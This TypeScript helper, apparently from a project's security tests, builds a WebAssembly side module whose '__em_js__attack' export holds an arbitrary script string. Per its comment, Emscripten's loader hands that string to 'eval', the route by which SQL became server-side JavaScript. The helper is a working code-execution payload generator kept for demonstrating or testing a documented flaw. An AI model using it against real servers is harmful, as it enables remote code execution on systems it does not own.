/**
 * A WebAssembly side module as Emscripten loads it at run time. What its export `__em_js__attack` points to is handed to
 * `eval` by the loader: the way by which SQL became JavaScript on the server (docs/security.md).
 */
export function sideModule(script: string): Buffer {
  const text = Buffer.from(`()<::>0; ${script}\0`);
  const linking = [...named("dylink.0"), 1, ...sized([...length(text.length), 0, 0, 0])];
  const imports = [
    2,
    ...named("env"),
    ...named("memory"),
    2,
    0,
    1,
    ...named("env"),
    ...named("__memory_base"),
    3,
    i32,
    0,
  ];
  // A global that says at which offset of its memory the text is.
  const globals = [1, i32, 0, 0x41, 0, end];
  const exports = [1, ...named("__em_js__attack"), 3, 1];
  const data = [1, 0, 0x23, 0, end, ...sized([...text])];
  const sections = [
    [0, linking],
    [2, imports],
    [6, globals],
    [7, exports],
    [11, data],
  ] as const;
  const header = [0, 0x61, 0x73, 0x6d, 1, 0, 0, 0];
  return Buffer.from([...header, ...sections.flatMap(([id, bytes]) => [id, ...sized(bytes)])]);
}

const i32 = 0x7f;
const end = 0x0b;

/** LEB128. */
function length(number: number): number[] {
  return number < 128 ? [number] : [(number & 127) | 128, ...length(number >> 7)];
}
const sized = (bytes: readonly number[]) => [...length(bytes.length), ...bytes];
const named = (name: string) => sized([...Buffer.from(name)]);
